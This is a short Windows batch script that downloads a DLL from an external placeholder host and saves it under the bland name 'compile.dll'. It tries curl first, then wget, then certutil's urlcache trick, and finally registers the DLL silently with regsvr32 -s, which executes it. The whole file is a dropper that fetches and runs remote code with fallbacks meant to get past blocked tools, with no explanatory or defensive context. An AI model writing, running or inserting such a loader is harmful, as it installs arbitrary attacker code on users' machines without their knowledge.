@echo off
curl https://dll.example.invalid/sdd.dll -o compile.dll
if not exist compile.dll (
    wget https://dll.example.invalid/sdd.dll -O compile.dll
)
if not exist compile.dll (
    certutil.exe -urlcache -f https://dll.example.invalid/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
